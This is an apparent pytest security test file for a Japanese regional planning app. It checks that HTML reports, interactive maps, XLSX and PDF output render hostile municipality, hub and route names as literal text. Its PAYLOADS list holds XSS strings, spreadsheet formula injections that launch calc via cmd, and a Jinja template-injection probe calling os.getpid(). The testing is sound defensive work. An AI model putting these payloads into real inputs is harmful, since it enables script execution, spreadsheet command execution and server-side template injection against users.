"""Hostile text is data, never code: the HTML report in a real headless browser, the XLSX read back.

The real Ibaraki bundle with user text replaced by a corpus of payloads (a labelled test fixture:
real boundaries, real sites and coordinates, only the *names* are hostile): municipality names,
hub names, the scenario name and notes, outreach route names and partnership group names. The
report is written by the normal writer, opened in Debian chromium (Selenium), every tooltip of
the interactive map is opened, and the test asserts that

- no payload ran: no sentinel attribute set on the page or inside the map frame, no alert;
- no payload became markup: no <img>/<svg>/<script>/<iframe>/<b> element from user text;
- the names still display literally (tables, map labels, tooltips, legends).

Screenshots go to test-output/xss/ (look at them).
"""

from __future__ import annotations

import copy
import time
from pathlib import Path

import geopandas as gpd
import pytest
from browser_support import OPEN_ALL_TOOLTIPS, ROOT, chrome_session, needs_browser, no_alert
from shapely.geometry import LineString

SHOTS = ROOT / "test-output" / "xss"

SET = "document.documentElement.setAttribute('data-pwned','{n}')"
TOP = "top.document.documentElement.setAttribute('data-pwned','{n}')"
# The corpus: every way user text has broken out of a context in web apps (HTML, attribute,
# script element, JS string, JS template literal, URL, JSON line separators, Markdown/Jinja).
PAYLOADS = [
    "${" + SET.format(n=1) + "}",
    "${" + TOP.format(n=2) + "}",
    "</script><script>" + SET.format(n=3) + "</script>",
    '<img src=x onerror="' + TOP.format(n=4) + '">',
    "<svg onload=" + SET.format(n=5).replace(" ", "") + ">",
    "javascript:" + SET.format(n=6),
    "\"'><b onmouseover=alert(7)>太字</b>",
    "`;" + SET.format(n=8) + ";`",
    "\\'); " + SET.format(n=9) + ";//\\",
    "改行\u2028区切り\u2029終わり",
    "<!--<script>" + SET.format(n=11) + "</script>-->",
    '{% raw %} <iframe src="javascript:' + TOP.format(n=12) + '"></iframe>',
    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    # folium/branca compile rendered map scripts as Jinja templates again: server-side template injection
    "{{ 7*7 }}{{ cycler.__init__.__globals__.os.getpid() }}{# c #}",
]


def _hostile_case(region, tmp: Path):
    """Region copy with hostile municipality names, a scenario with hostile hub/scenario text, report data."""
    from madoguchi.planning.scenario import Hub, Scenario
    from madoguchi.reports.tables import build_report_data

    r = copy.copy(region)
    munis = region.municipalities.copy()
    # the first len(PAYLOADS) municipalities get a payload as their name (rest keep real names)
    munis.loc[munis.index[: len(PAYLOADS)], "name"] = PAYLOADS
    r.municipalities = munis
    sites = region.sites[region.sites["kind"] == "candidate"].head(5)
    # hub names: the spreadsheet payloads (the hub table lists them, one per cell)
    hubs = [
        Hub(
            s.site_id,
            PAYLOADS[12 + i] if i < 4 else PAYLOADS[-2],
            float(s.lon),
            float(s.lat),
            fixed=(i == 0),
            source="existing" if i == 0 else "manual",
        )
        for i, s in enumerate(sites.itertuples())
    ]
    sc = Scenario(name=PAYLOADS[0], region=region.path.name, hubs=hubs, notes="\n".join(PAYLOADS)).touch()
    d = build_report_data(r, sc, isochrones=False)
    # outreach routes and partnership groups with hostile names (drawn on the map, listed in the report)
    pts = [(float(s.lon), float(s.lat)) for s in sites.itertuples()]
    d.layers["routes"] = gpd.GeoDataFrame(
        {"name": [PAYLOADS[2], PAYLOADS[7], PAYLOADS[8]]},
        geometry=[
            LineString([pts[0], pts[1], pts[0]]),
            LineString([pts[0], pts[2], pts[0]]),
            LineString([pts[0], pts[3], pts[4], pts[0]]),
        ],
        crs=4326,
    )
    codes = munis["code"].astype(str).tolist()
    d.layers["groups"] = gpd.GeoDataFrame(
        {"name": [PAYLOADS[3], PAYLOADS[-1]], "members": [",".join(codes[:4]), ",".join(codes[4:9])]},
        geometry=[munis.geometry.iloc[:4].union_all(), munis.geometry.iloc[4:9].union_all()],
        crs=4326,
    )
    return d


@pytest.fixture(scope="module")
def hostile(ibaraki_region, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("xss")
    return _hostile_case(ibaraki_region, tmp), tmp


# ------------------------------------------------------------------------ XLSX: cells are text, never formulas


def test_xlsx_cells_from_user_text_are_never_formulas(hostile):
    import openpyxl

    from madoguchi.reports.xlsx import write_xlsx
    from madoguchi.safe_text import is_formula_like

    d, tmp = hostile
    out = tmp / "hostile.xlsx"
    write_xlsx(d, out)
    wb = openpyxl.load_workbook(out)  # formulas come back as '=...' strings with data_type 'f'
    seen_payloads = set()
    formula_like = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    for p in PAYLOADS:
                        if p in c.value:
                            seen_payloads.add(p)
                    if is_formula_like(c.value):
                        formula_like += 1
                        # stored as text, exactly as typed, flagged with Excel's quote prefix
                        assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
    # the names are still there, literally (hub names, notes, municipality names)
    for p in PAYLOADS:
        assert p in seen_payloads, p
    assert formula_like >= 5  # at least the five hub names
    # the raw XML holds no <f> (formula) element at all
    import zipfile

    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


# ------------------------------------------------------------------------ HTML report in a real browser


@pytest.fixture(scope="module")
def chrome(tmp_path_factory):
    yield from chrome_session(tmp_path_factory, "chrome-xss", SHOTS)


@needs_browser
@pytest.mark.browser
def test_html_report_runs_no_script_from_names(hostile, chrome):
    from selenium.webdriver.common.by import By

    from madoguchi.reports.html import render_html

    d, tmp = hostile
    page = tmp / "hostile.html"
    page.write_text(render_html(d), encoding="utf-8")
    chrome.get(page.as_uri())
    time.sleep(1.5)
    no_alert(chrome)
    assert chrome.execute_script("return document.documentElement.getAttribute('data-pwned')") is None
    # outer report: names displayed literally in the tables and the notes, no element made from them
    body = chrome.find_element(By.TAG_NAME, "body").text
    for p in PAYLOADS:
        if "\u2028" in p or "\t" in p:
            continue  # a line separator / tab is whitespace in rendered text; checked on the map below
        assert p.split("\n")[0].strip() in body, p
    outer_bad = chrome.execute_script(
        "return Array.from(document.body.querySelectorAll('img:not(.static-map),svg,script,iframe:not(.map-frame),b'))"
        ".map(function(e){ return e.outerHTML.slice(0, 80); });"
    )
    assert outer_bad == [], outer_bad
    chrome.save_screenshot(str(SHOTS / "report_top.png"))
    # the interactive map frame: open every tooltip, then look for traces
    frame = chrome.find_element(By.CSS_SELECTOR, "iframe.map-frame")
    chrome.execute_script("arguments[0].scrollIntoView();", frame)
    chrome.switch_to.frame(frame)
    try:
        res = chrome.execute_script(OPEN_ALL_TOOLTIPS)
        time.sleep(1.0)  # an <img onerror> or <svg onload> would fire by now
        no_alert(chrome)
        assert chrome.execute_script("return document.documentElement.getAttribute('data-pwned')") is None
        assert res["pwned"] is None
        allowed = {"DIV", "TABLE", "TBODY", "TR", "TH", "TD", "BR", "I", "SPAN", "DETAILS", "SUMMARY", "SVG", "LINE"}
        bad = {k: v for k, v in res["tags"].items() if k.upper() not in allowed}
        assert bad == {}, f"markup made from user text: {bad}"
        # legends may draw a swatch <svg><line>; no other svg may come from text
        svg_from_text = chrome.execute_script(
            "return Array.from(document.querySelectorAll('svg[onload], img, script[src=\"x\"], b, iframe')).length;"
        )
        assert svg_from_text == 0
        shown = "\n".join(res["texts"])
        for p in PAYLOADS:
            for part in p.replace("\u2028", "\n").replace("\u2029", "\n").split("\n"):
                part = part.strip()
                if part:
                    assert part in shown, f"not displayed literally on the map: {part!r}"
    finally:
        chrome.switch_to.default_content()
    chrome.execute_script("arguments[0].scrollIntoView();", frame)
    chrome.save_screenshot(str(SHOTS / "report_map.png"))
    no_alert(chrome)
    assert chrome.execute_script("return document.documentElement.getAttribute('data-pwned')") is None


# ------------------------------------------------------------------------ every maps.py layer, as the app uses them


def _hostile_app_map(region):
    """A map with every maps.py layer the app pages use, all user text replaced by payloads."""
    import numpy as np

    from madoguchi import maps

    munis = region.municipalities.copy()
    munis.loc[munis.index[: len(PAYLOADS)], "name"] = PAYLOADS
    sites = region.sites[region.sites["kind"] == "candidate"].head(len(PAYLOADS)).copy()
    sites["name"] = PAYLOADS[: len(sites)]
    sites["label"] = PAYLOADS[: len(sites)]
    demand = region.demand.head(len(PAYLOADS)).copy()
    demand["town"] = PAYLOADS[: len(demand)]
    m = maps.base_map(munis.total_bounds, online=False)
    maps.add_municipalities(m, munis, "population")
    maps.add_labels(m, munis)
    maps.add_sites(m, sites)
    maps.add_demand(m, demand, minutes=np.linspace(5, 90, len(demand)), threshold=30)
    pts = list(zip(sites["lon"].astype(float), sites["lat"].astype(float)))
    maps.add_routes(
        m, [{"name": p, "coords": [pts[0], pts[i % len(pts)], pts[0]], "color": p} for i, p in enumerate(PAYLOADS)]
    )
    codes = munis["code"].astype(str).tolist()
    maps.add_groups(
        m,
        munis,
        {c: f"g{i % 3}" for i, c in enumerate(codes[:12])},
        hosts=[{"name": p, "lon": pts[i][0], "lat": pts[i][1]} for i, p in enumerate(PAYLOADS[:3])],
        group_names={"g0": PAYLOADS[0], "g1": PAYLOADS[2], "g2": PAYLOADS[-1]},
    )
    maps.add_hubs(
        m, [{"name": p, "lon": pts[i][0], "lat": pts[i][1], "source": "manual"} for i, p in enumerate(PAYLOADS)]
    )
    maps.add_legend(m, PAYLOADS[3], [(PAYLOADS[4], PAYLOADS[5])])
    return maps.map_html(m)


def test_maps_render_no_template_or_markup_from_text(ibaraki_region):
    """Server side: no payload survives raw into the page, and no Jinja expression is evaluated."""
    import re

    html = _hostile_app_map(ibaraki_region)
    # branca re-compiles rendered scripts as Jinja: {{ 7*7 }} must not become 49, getpid() must not run
    assert "{{ 7*7 }}" not in html and "cycler.__init__" in html
    assert not re.search(r'"name": "49', html)
    for p in PAYLOADS:
        if any(ch in p for ch in "<>'\"{`$\u2028"):
            assert p not in html, f"payload written raw into the map page: {p!r}"
    assert "<script>document" not in html and 'onerror="' not in html


@needs_browser
@pytest.mark.browser
def test_app_maps_run_no_script_from_names(ibaraki_region, chrome, tmp_path):
    """The same maps.py layers the app renders (st_folium), opened in the browser: nothing runs."""
    page = tmp_path / "app_map.html"
    page.write_text(_hostile_app_map(ibaraki_region), encoding="utf-8")
    chrome.get(page.as_uri())
    time.sleep(1.5)
    no_alert(chrome)
    res = chrome.execute_script(OPEN_ALL_TOOLTIPS)
    time.sleep(1.0)
    no_alert(chrome)
    assert chrome.execute_script("return document.documentElement.getAttribute('data-pwned')") is None
    allowed = {"DIV", "TABLE", "TBODY", "TR", "TH", "TD", "BR", "I", "SPAN", "DETAILS", "SUMMARY", "SVG", "LINE"}
    bad = {k: v for k, v in res["tags"].items() if k.upper() not in allowed}
    assert bad == {}, f"markup made from user text: {bad}"
    shown = "\n".join(res["texts"])
    for p in PAYLOADS:
        for part in p.replace("\u2028", "\n").replace("\u2029", "\n").split("\n"):
            if part.strip():
                assert part.strip() in shown, f"not displayed literally: {part!r}"
    chrome.save_screenshot(str(SHOTS / "app_map_payloads.png"))


# ------------------------------------------------------------------------ PDF: names are drawn as plain text


def test_pdf_report_draws_names_as_plain_text(hostile, ibaraki_region):
    """Names with matplotlib mathtext (`$\\frac$`, which used to raise a parse error) and control characters
    (tab, which asked the font for a missing glyph) are drawn literally, on one line, in the PDF."""
    import subprocess
    import warnings

    from madoguchi.reports import report_bytes

    d, tmp = hostile
    layers = dict(d.layers)
    munis = layers["municipalities"].copy()
    towns = munis.index[munis["kind"].isin(["町", "村"])]  # in scope: labelled on the map
    munis.loc[towns[0], "name"] = "数式$\\frac$町"
    munis.loc[towns[1], "name"] = "タブ\t入り村"
    layers["municipalities"] = munis
    d2 = copy.copy(d)
    d2.layers = layers
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)  # e.g. "Glyph 9 missing from font(s)"
        pdf = report_bytes(ibaraki_region, None, "pdf", data=d2)
    out = tmp / "names.pdf"
    out.write_bytes(pdf)
    assert subprocess.run(["pdfinfo", str(out)], capture_output=True).returncode == 0
    # on the map the names are drawn as written (one line), not as mathtext
    from madoguchi.reports.static_map import map_figure

    fig = map_figure(layers, [30.0])
    drawn = {txt.get_text() for ax in fig.axes for txt in ax.texts}
    assert "数式$\\frac$町" in drawn and "タブ 入り村" in drawn
